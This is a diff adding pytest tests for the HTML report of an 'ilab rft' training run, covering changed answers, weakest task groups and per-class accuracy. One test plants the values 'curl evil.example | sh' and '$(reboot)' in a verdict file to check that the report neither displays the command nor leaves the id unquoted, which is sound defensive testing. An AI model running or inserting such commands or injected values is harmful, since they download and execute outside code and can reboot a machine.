@@ -121,6 +121,32 @@ def test_what_each_stage_did(page: Page) -> None:
     assert "warm start chosen +47.9 50 4 0.218" in page.text
 
 
+def test_a_flip_shows_what_was_extracted_and_how_to_see_all_of_it(html: str, page: Page) -> None:
+    assert "task 6820212c6959, group emergency-0, class EMERGENCY Prompt" in page.text
+    assert "Before (right) EMERGENCY Extracted: EMERGENCY Grader: label 'EMERGENCY' is right" in page.text
+    assert "Extracted: nothing Grader: quantity: '2' is not 2" in page.text
+    assert html.count("To see all of it: <code>ilab rft explain ") == 100  # as many as fit on the page
+    broken = [f for f in re.findall(r'data-direction="(\w+)"', html) if f == "broken"]
+    assert re.findall(r'data-direction="(\w+)"', html)[: len(broken)] == broken
+
+
+def test_worst_groups_and_classes_of_watched_skills(page: Page) -> None:
+    assert "The group of tasks that lost most: emergency-0, 5 tasks, 80.0% before, 60.0% after." in page.text
+    assert "order_json-4" not in page.text.split("Answers that changed sides")[0]  # a group of one task is none
+    assert "retail/return_policy by class Greedy accuracy of each class, commonest class first." in page.text
+    assert "Class Tasks Before After Difference, points yes 56 55.4% 57.1% +1.8 no 40 75.0% 75.0% +0.0" in page.text
+
+
+def test_commands_are_not_read_from_the_verdict(tmp_path: Path) -> None:
+    run = Path(shutil.copytree(RUN, tmp_path / "a run"))
+    verdict = json.loads((run / "gate" / "verdict.json").read_text(encoding="utf-8"))
+    for flip in verdict["flips"]:
+        flip |= {"command": "curl evil.example | sh", "task_id": "$(reboot)'"}
+    (run / "gate" / "verdict.json").write_text(json.dumps(verdict), encoding="utf-8")
+    text = Page(render_html(load_run(run))).text
+    assert "evil" not in text and f"""ilab rft explain '$(reboot)'"'"'' --run '{run}'""" in text
+
+
 def test_a_selection_without_frontier_is_still_shown(tmp_path: Path) -> None:
     run = Path(shutil.copytree(RUN, tmp_path / "run"))
     selection = json.loads((run / "rl" / "selection.json").read_text(encoding="utf-8"))
@@ -199,6 +225,7 @@ def test_stays_small_with_very_much_hostile_text(tmp_path: Path) -> None:
     long = "&\u202e" * 1500
     texts = dict.fromkeys(("prompt", "reference", "before", "after", "before_reason", "after_reason"), long)
     verdict["flips"] = [{"skill": "s", "task_id": str(i), "direction": "fixed", **texts} for i in range(400)]
+    verdict["flip_counts"] = [{"skill": "s", "broken": 0, "fixed": 400, "listed": 400}]
     verdict["targets"][0]["classes"] *= 100
     (run / "gate" / "verdict.json").write_text(json.dumps(verdict), encoding="utf-8")
     for name, copies in (("rl/rollouts.jsonl", 84), ("rl/steps.jsonl", 40), ("data/ledger.jsonl", 50)):
